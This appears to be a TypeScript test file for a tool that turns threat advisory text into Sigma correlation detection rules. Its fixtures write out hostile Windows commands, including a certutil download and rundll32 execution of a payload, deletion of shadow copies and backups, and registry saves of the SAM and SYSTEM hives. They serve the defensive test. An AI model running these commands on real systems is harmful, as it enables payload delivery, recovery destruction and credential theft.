import { generate } from '@tripline/advisory';
import { DEFAULT_TARGET_IDS, matchCorrelation, parseSigma, type SigmaCorrelation } from '@tripline/sigma';
import { markdownAdvisory, textAdvisory } from './support/documents.js';

async function sequences(text: string) {
  const { rules } = generate(await textAdvisory(text));
  return rules.filter(({ yaml }) => /\n {4}type: temporal/.test(yaml));
}

const AWS = 'The intrusion in AWS is told from CloudTrail and IAM user records. ';
const OKTA = 'The Okta log of the Okta admins tells it. ';

describe('sequence rules', () => {
  it.each([
    [
      'a user made usable',
      `${AWS}The intruder called CreateUser, then CreateAccessKey and finally AttachUserPolicy for it.`,
      'cloud-audit-1',
      3,
    ],
    ['a trail stopped and deleted', `${AWS}They called StopLogging and later DeleteTrail.`, 'cloud-audit-1', 2],
    [
      'prompts until one is approved',
      `${OKTA}MFA fatigue followed until one user approved the prompt.`,
      'identity-1',
      2,
    ],
    [
      'password spraying that worked',
      'Password spraying against the domain went on until a valid account was found.',
      'endpoint-security',
      2,
    ],
    [
      'a file fetched and started',
      'They ran these:\n\ncertutil.exe -urlcache -f http://198.51.100.4/a heronload.exe\nrundll32.exe C:\\ProgramData\\heronload.exe,Begin\n',
      'endpoint-sysmon',
      2,
    ],
    [
      'a task created and run',
      'They ran these:\n\nschtasks /create /tn HeronTask7 /tr C:\\Perf\\a.exe /sc once\nschtasks /run /tn HeronTask7\n',
      'endpoint-sysmon',
      2,
    ],
    [
      'recovery destroyed in several ways',
      'They ran these:\n\nvssadmin.exe delete shadows /all /quiet\nbcdedit /set {default} recoveryenabled no\nwbadmin delete catalog -quiet\n',
      'endpoint-sysmon',
      3,
    ],
  ])('are drafted for %s', async (_, text, platform, steps) => {
    const [rule, ...more] = await sequences(text);
    expect(more).toEqual([]);
    expect(rule?.platform).toBe(platform);
    const [correlation] = parseSigma(rule?.yaml ?? '').documents;
    expect((correlation as SigmaCorrelation).rules).toHaveLength(steps);
    expect(Object.keys(rule?.conversions ?? {}).sort()).toEqual([...DEFAULT_TARGET_IDS].sort());
  });

  it('fire on their own list of events and not without one of its steps', async () => {
    const [rule] = await sequences(`${OKTA}MFA fatigue followed until one user approved the prompt.`);
    const collection = parseSigma(rule?.yaml ?? '');
    const correlation = collection.documents[0] as SigmaCorrelation;
    const fires = (events: readonly Readonly<Record<string, unknown>>[]): boolean =>
      matchCorrelation(correlation, collection, events).matched;
    const events = rule?.tests.match ?? [];
    expect(fires(events)).toBe(true);
    expect(fires(events.slice(0, -1))).toBe(false);
    expect(fires(events.slice(1))).toBe(false);
    expect(fires(rule?.tests.noMatch ?? [])).toBe(false);
  });

  it('fire on the events of the reported commands as Windows writes them', async () => {
    const [rule] = await sequences('The actor dumped the SAM hive and the SYSTEM hive of the Windows server.');
    const collection = parseSigma(rule?.yaml ?? '');
    const saved = (key: string): Record<string, string> => ({
      Image: 'C:\\Windows\\System32\\reg.exe',
      CommandLine: `reg save HKLM\\${key} C:\\Windows\\System32\\${key}.hiv`,
      Computer: 'FS01',
      '@timestamp': '2026-03-02T10:00:00Z',
    });
    const fires = (keys: readonly string[]): boolean =>
      matchCorrelation(collection.documents[0] as SigmaCorrelation, collection, keys.map(saved)).matched;
    expect(fires(['SAM', 'SYSTEM'])).toBe(true);
    expect(fires(['SAM', 'SOFTWARE'])).toBe(false);
  });

  it('bind the steps to one actor and one account', async () => {
    const [rule] = await sequences(`${AWS}They called CreateUser and then CreateAccessKey.`);
    const collection = parseSigma(rule?.yaml ?? '');
    const [first = {}, second = {}] = rule?.tests.match ?? [];
    const other = { ...second, requestParameters: { userName: 'somebody-else' } };
    expect(matchCorrelation(collection.documents[0] as SigmaCorrelation, collection, [first, other]).matched).toBe(
      false,
    );
  });

  it('leave the rules on the single steps as they are', async () => {
    const { rules } = generate(await textAdvisory(`${AWS}They called StopLogging and later DeleteTrail.`));
    const single = rules.filter(({ yaml }) => !yaml.includes('correlation:'));
    expect(single.some(({ yaml }) => yaml.includes('StopLogging'))).toBe(true);
  });

  it('point at the place of every value told', async () => {
    const text = `${AWS}They called StopLogging and later DeleteTrail.`;
    const [rule] = await sequences(text);
    const quotes = (rule?.evidence ?? []).flatMap((each) => ('quote' in each ? [each.quote] : []));
    expect(quotes).toEqual(expect.arrayContaining(['StopLogging', 'DeleteTrail']));
  });

  it.each([
    [
      'steps told far apart',
      `${AWS}They called StopLogging.\n\n${'Much else was seen on that day. '.repeat(60)}\n\nDeleteTrail came up.`,
    ],
    ['one step alone', `${AWS}They called CreateUser.`],
    ['a count with nothing after it', 'They went on with password spraying against the domain.'],
    [
      'a download of another file',
      'certutil.exe -urlcache -f http://198.51.100.4/a one7.exe\nrundll32.exe C:\\Perf\\two8.dll,Go\n',
    ],
    ['advice', `${AWS}Defenders should alert on StopLogging and DeleteTrail.`],
  ])('are not drafted for %s', async (_, text) => {
    expect(await sequences(text)).toEqual([]);
  });

  it('are not drafted from steps under different headings', async () => {
    const text = `# Report\n\n${AWS}\n\n## First case\n\nThey called StopLogging.\n\n## Second case\n\nThey called DeleteTrail.\n`;
    const { rules } = generate(await markdownAdvisory(text));
    expect(rules.filter(({ yaml }) => yaml.includes('temporal'))).toEqual([]);
  });
});
